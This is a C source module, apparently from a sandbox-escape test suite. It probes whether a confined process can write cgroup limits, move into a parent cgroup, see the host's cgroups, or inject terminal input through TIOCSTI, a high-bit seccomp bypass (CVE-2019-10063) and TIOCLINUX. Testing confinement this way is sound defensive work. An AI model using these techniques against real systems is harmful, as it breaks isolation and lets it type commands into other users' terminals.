/* Cgroups: out of one's own, and the limits at its top lifted. Terminals: input for who reads there. */
#include "attacks.h"
#include <dirent.h>
#include <sys/ioctl.h>

static const char tops[] = "/sys/fs/cgroup";

static bool limit(const char *name)
{
    const char *ends[] = {".max", ".high", "_in_bytes", ".weight", ".shares", "_quota_us", "cpuset.cpus", "devices.allow", "release_agent"};
    size_t length = strlen(name);
    for (size_t i = 0; i < sizeof ends / sizeof *ends; i++) {
        size_t end = strlen(ends[i]);
        if (length >= end && !strcmp(name + length - end, ends[i])) return true;
    }
    return false;
}

/* Files at the top of what we see, in one hierarchy or in each: they are set by who made us. */
static enum outcome writable_limit(const char *dir, int depth)
{
    DIR *entries = opendir(dir);
    if (!entries) return HELD;
    enum outcome outcome = HELD;
    for (struct dirent *entry; outcome == HELD && (entry = readdir(entries));) {
        char path[PATH_MAX];
        if (*entry->d_name == '.') continue;
        snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
        if (depth == 0 && entry->d_type == DT_DIR) outcome = writable_limit(path, 1);
        else if (limit(entry->d_name) && open(path, O_WRONLY | O_CLOEXEC) >= 0) outcome = through("may write %s", path);
    }
    closedir(entries);
    return outcome;
}

static enum outcome lift(void)
{
    enum outcome outcome = writable_limit(tops, 0);
    return outcome == HELD ? held("no limit can be written") : outcome;
}

/* Is a cgroup of /proc/self/cgroup the host's? Ours is "/" in a namespace of its own; of a subhost with an
 * init of its own, those who join are beside that. */
static const char *shows_host(char *text)
{
    for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
        char *path = strrchr(line, ':');
        if (path && strcmp(path, ":/") && strcmp(path, ":/init.scope") && strcmp(path, ":/../joined")) return path + 1;
    }
    return NULL;
}

static enum outcome see_host(void)
{
    char text[4096];
    if (slurp("/proc/self/cgroup", text, sizeof text) < 0) return judge(-1, "/proc/self/cgroup");
    const char *path = shows_host(text);
    return path ? through("we are in %s of the host", path) : held("we are at the top of what there is");
}

/* Into a cgroup above, where what we are allowed does not count. */
static enum outcome move_out(void)
{
    const char *ups[] = {"/sys/fs/cgroup/../cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs",
                         "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/systemd/cgroup.procs"};
    char before[4096] = "", after[4096] = "";
    slurp("/proc/self/cgroup", before, sizeof before);
    for (size_t i = 0; i < sizeof ups / sizeof *ups; i++) {
        int fd = open(ups[i], O_WRONLY | O_CLOEXEC);
        if (fd < 0 || write(fd, "0", 1) < 0) continue;
        slurp("/proc/self/cgroup", after, sizeof after);
        if (!strcmp(before, after)) continue;
        if (shows_host(after)) return through("moved by %s", ups[i]);
    }
    return held("no way out: %s", strerror(errno));
}

/* Any terminal among 0, 1 and 2, or the controlling one. */
static int terminal(void)
{
    for (int fd = 0; fd < 3; fd++)
        if (isatty(fd)) return fd;
    return open("/dev/tty", O_RDWR | O_CLOEXEC);
}

static enum outcome type_in(unsigned long request, const char *call)
{
    int fd = terminal();
    if (fd < 0) fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) return untried("no terminal: %s", strerror(errno));
    return judge(syscall(SYS_ioctl, fd, request, "\n"), call);
}

static enum outcome type(void) { return type_in(TIOCSTI, "TIOCSTI"); }
/* The kernel looks at 32 bits, and a filter that looks at 64 is passed (CVE-2019-10063). */
static enum outcome type_disguised(void) { return type_in(0x100000000UL | TIOCSTI, "TIOCSTI with high bits"); }

static enum outcome paste(void)
{
    int fd = terminal();
    if (fd < 0) fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) return untried("no terminal: %s", strerror(errno));
    char selection = 3;
    long result = ioctl(fd, TIOCLINUX, &selection);
    if (result < 0 && errno == ENOTTY) return held("TIOCLINUX: no virtual console");
    return judge(result, "TIOCLINUX");
}

const struct attack limit_attacks[] = {
    {"cgroup-limits", lift, ON_HOST, "the limits of one's own cgroup lifted", 0},
    {"cgroup-out", move_out, ON_HOST, "a cgroup above one's own", 0},
    {"cgroup-path", see_host, ON_HOST, "the host's cgroups seen", 0},
    {"tiocsti", type, IN_CHROOT, "input for whoever reads from the terminal (CVE-2017-5226)", 0},
    {"tiocsti-64", type_disguised, IN_CHROOT, "the same, disguised (CVE-2019-10063)", 0},
    {"tioclinux", paste, NEVER, "the console's selection pasted", "only a virtual console has a selection, and it is the machine's"},
    {0},
};
